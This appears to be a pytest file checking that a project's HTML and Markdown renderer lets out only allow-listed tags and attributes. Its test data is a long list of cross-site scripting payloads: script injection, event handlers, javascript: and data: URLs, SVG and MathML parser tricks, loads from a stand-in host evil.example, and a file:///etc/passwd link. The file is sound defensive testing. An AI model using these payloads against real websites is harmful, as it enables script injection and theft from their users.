"""Whatever a page contains, its HTML has only what the allow-list names."""

import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from pgrag.rendering.html import assembled, rendered_blocks
from pgrag.rendering.links import Links
from pgrag.rendering.marking import Marking, word_pattern
from pgrag.rendering.window import window

TAGS = {
    "-text", "a", "abbr", "b", "blockquote", "body", "br", "caption", "cite", "code", "dd", "del",
    "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3", "h4", "h5",
    "h6", "head", "hr", "html", "i", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt",
    "ruby", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td",
    "tfoot", "th", "thead", "tr", "u", "ul", "var", "wbr",
}  # fmt: skip
ATTRIBUTES = {
    "data-lines": r"\d+-\d+", "data-page-id": r"\d+", "dir": "ltr|rtl|auto", "lang": r"[\w-]+",
    "href": r"(?i:https?://|mailto:|#|/)[^\0]*", "rel": "noopener noreferrer", "title": r"[^\0]*",
    "class": r"passage|language-[\w+#.-]+|align-\w+", "id": r"passage|fn-[\w.-]+|heading\d",
    "colspan": r"\d+", "rowspan": r"\d+", "scope": r"\w+", "start": r"-?\d+", "value": r"-?\d+",
    "open": "",
}  # fmt: skip
HTML = """\
<script>steal()</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>steal()</scr</script>ipt>
<script >steal()</script foo>
<script/x>steal()</script>
<script\t>steal()
<img src=x onerror=steal()>
<img src="x"onerror="steal()">
<img/src=x/onerror=steal()>
<img src=`x` onerror=steal()>
<img src=javascript:steal()>
<img srcset="https://evil.example/p.png 1x" alt=a>
<img src=x alt="<script>steal()</script>">
<img src=x alt="&lt;script&gt;steal()&lt;/script&gt;">
<img src=x alt='"><script>steal()</script>'>
<a href=y title="<script>steal()</script>">x</a>
<IMG LOWSRC="javascript:steal()">
<svg onload=steal()>
<svg><script>steal()</script></svg>
<svg><a xlink:href="javascript:steal()"><text>x</text></a></svg>
<svg><animate onbegin=steal() attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id=x onload=steal()>#x"/></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=steal()>
<math href="javascript:steal()">CLICK</math>
<math><mi//xlink:href="data:x,<script>steal()</script>">
<iframe src=javascript:steal()></iframe>
<iframe srcdoc="<script>steal()</script>"></iframe>
<frameset><frame src=javascript:steal()></frameset>
<object data=javascript:steal()></object>
<embed src=//evil.example/x.swf>
<applet code=x></applet>
<form action=//evil.example><input name=key><button>Go</button></form>
<input autofocus onfocus=steal()>
<button formaction=javascript:steal()>x</button>
<select onfocus=steal() autofocus><option>x</option></select>
<textarea onfocus=steal() autofocus>x</textarea>
<keygen autofocus onfocus=steal()>
<video src=x onerror=steal() poster=//evil.example/p></video>
<video><source onerror=steal()></video>
<audio src=//evil.example/x autoplay></audio>
<body onload=steal()>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:steal()">
<style>*{background:url(//evil.example)}</style>
<style><img src="</style><img src=x onerror=steal()>">
<p style="background:url(//evil.example/p)">x</p>
<div style="width:expression(steal())">x</div>
<table background=//evil.example/p><tr><td>x</td></tr></table>
<marquee onstart=steal()>x</marquee>
<details open ontoggle=steal()>x</details>
<isindex action=javascript:steal() type=image>
<xmp><p title="</xmp><img src=x onerror=steal()>">
<noscript><p title="</noscript><img src=x onerror=steal()>">
<template><img src=x onerror=steal()></template>
<title><img src=x onerror=steal()></title>
<textarea></textarea><img src=x onerror=steal()>
<plaintext><img src=x onerror=steal()>
<!--><img src=x onerror=steal()>-->
<!-- --!><img src=x onerror=steal()>
<![CDATA[<img src=x onerror=steal()>]]>
<?xml version="1.0"?><x onclick=steal()>
<a href="javascript:steal()">x</a>
<a href="JaVaScRiPt&colon;steal()">x</a>
<a href="java&#10;script:steal()">x</a>
<a href=" &#14; javascript:steal()">x</a>
<a href="data:text/html,<script>steal()</script>">x</a>
<a href="vbscript:steal()">x</a>
<a href="blob:https://x.example/1">x</a>
<a href="//evil.example" target=_top onclick=steal() ping=//evil.example>x</a>
<a href="wiki:javascript:steal()">x</a>
<a name=body id=location href=#>x</a>
<p id=passage class=passage is=x-y data-page-id=1 data-lines="1;x">x</p>
<li data-lines="1-1 onclick=steal()">x</li>
<code class="language-x onclick">x</code>
<x-evil onclick=steal()>x</x-evil>
<p/onclick=steal()>x</p>
<p "onclick="steal()" ''onclick=steal()>x</p>
<table><td><a href="javascript:steal()">x<td></table></a><b>y
</div></div></body></html><script>steal()</script>
<form><math><mtext></form><form><mglyph><svg><style><path id="</style><img onerror=steal() src>">
<svg></p><style><a id="</style><img src=1 onerror=steal()>">
<b <script>steal()</script>0
&lt;script&gt;steal()&lt;/script&gt;
""".splitlines()
MARKDOWN = [
    "[x](javascript:steal())", "[x](JAVASCRIPT:steal())", "[x](&#106;avascript:steal())",
    "[x](java\tscript:steal())", "[x](<java\u00adscript:steal()>)", "[x](data:text/html,x)",
    "[x](vbscript:x)", "[x](file:///etc/passwd)", "![x](javascript:steal())",
    "![<script>steal()</script>](x.png)", "![x\" onerror=\"steal()](x.png)",
    '[x](y "t\" onclick=\"steal()")', "[x](y 'on\"click')",
    "<javascript:steal()>", "<data:text/html;base64,PHNjcmlwdD4=>",
    "[a]\n\n[a]: javascript:steal()",
    "[a]: x \"\" onclick=steal()\"\n\n[a]", "```\"><script>steal()</script>\nx\n```",
    "```js\" onclick=\"steal()\nx\n```", "~~~<img/src=x/onerror=steal()>\nx\n~~~",
    "`<script>steal()</script>`", "# <img src=x onerror=steal()> {#\"onclick=steal()}",
    "# x {#heading1 onclick=steal()}", "| <script>steal() | b |\n|---|---|\n| </td><script>x | y |",
    "[[javascript:steal()|x]]", "[[x#\"onclick=steal()|y]]", "[[<img src=x onerror=steal()>]]",
    "![[x|<img src=x onerror=steal()>]]", "[^\"onclick=steal()]: x", "x[^<script>]",
    "> [!<img src=x onerror=steal()>]", "{{domxref(\"<img src=x onerror=steal()>\")}}",
    '{{jsxref("x", "<script>steal()</script>")}}', "https://x.example/\"onmouseover=steal()",
    "https://x.example/<script>steal()</script>", "http://x.example/'onclick=steal()//",
    "<https://x.example/\"onclick=steal()>", "[x](https://x.example/\"onclick=steal())",
    "[<a href=javascript:steal()>x</a>](y)", "<a href='x'>[y](javascript:steal())</a>",
    "\\<script>steal()</script>", "*<b onclick=steal()>*", "- <li onclick=steal()>x\n- y",
    "1. x\n\n   <script>steal()</script>", "<p>\n\n[x](javascript:steal())\n\n</p>",
    "<!--\n\n<script>steal()</script>\n\n-->", "<script>\n\n# x\n\nsteal()\n\n</script>",
    "<div onclick=steal()>\n\n*x*\n\n</div>", '<div class="passage\0" id="passage">x</div>',
]  # fmt: skip


def render(text):
    part = window(text, 1, wanted=None, is_start=False)
    row = {
        "target": "y", "fragment": None, "target_page_id": 7, "anchor": '"onclick="steal()',
        "url": '/p"><script>steal()</script>',
    }  # fmt: skip
    links = Links("https://x.example/", [row])
    words = word_pattern(["script", "onerror", "steal", "img", "lt", "quot", "amp", "<b", '"'])
    marking = Marking(links, words)
    return assembled(rendered_blocks(part, is_markdown=True), marking, {1: "heading1"}, None)[0]


@pytest.mark.parametrize(
    "text",
    [*HTML, *(f"before {line} *after*" for line in HTML), *MARKDOWN, "\n".join(HTML),
     "\n\n".join(HTML), "\n\n".join(MARKDOWN)],
)  # fmt: skip
def test_nothing_comes_out_but_the_allow_list(text):
    html = render(text)
    for node in LexborHTMLParser(html).root.traverse(include_text=True):
        assert node.tag in TAGS, html
        for name, value in node.attributes.items():
            assert name in ATTRIBUTES, html
            assert re.fullmatch(ATTRIBUTES[name], value or "", re.DOTALL), (name, value, html)
    # What a parser makes of it, written and read again, is the same: nothing is ambiguous.
    again = LexborHTMLParser(html).body.inner_html
    assert LexborHTMLParser(again).body.inner_html == again


@pytest.mark.parametrize(
    "tag",
    ["b a={}", "i\ta='>{}'", 'S a=">{}"', 'code class="language-{}"', "em/a{}", "u <{}", "code"],
)
def test_elements_that_are_opened_again_do_not_multiply(tag):
    opened = "".join(f"<{tag.format(number)}>" for number in range(500))
    text = f"<div><p>{opened}</p>{'<p>x' * 500}</div>"
    assert len(render(text)) < 15 * len(text)
    assert len(render(f"- {text}\n")) < 15 * len(text)


def test_html_that_grows_too_much_is_shown_as_written():
    text = "<p>" + "<b><i><s><u><code><small><strong><em>" * 3 + "</p>" + "<p>x" * 1000
    html = render(text)
    assert LexborHTMLParser(html).css_first("pre").text() == text
    assert '<b lang="de">x</b>' in render('<p><b lang="de">x</b>')


def test_there_are_enough_strings_and_the_test_can_fail():
    assert len({*HTML, *MARKDOWN}) > 110
    bad = LexborHTMLParser('<p onclick="steal()">x</p>').css_first("p").attributes
    assert not bad.keys() <= ATTRIBUTES.keys()
    assert not re.fullmatch(ATTRIBUTES["href"], "javascript:steal()")
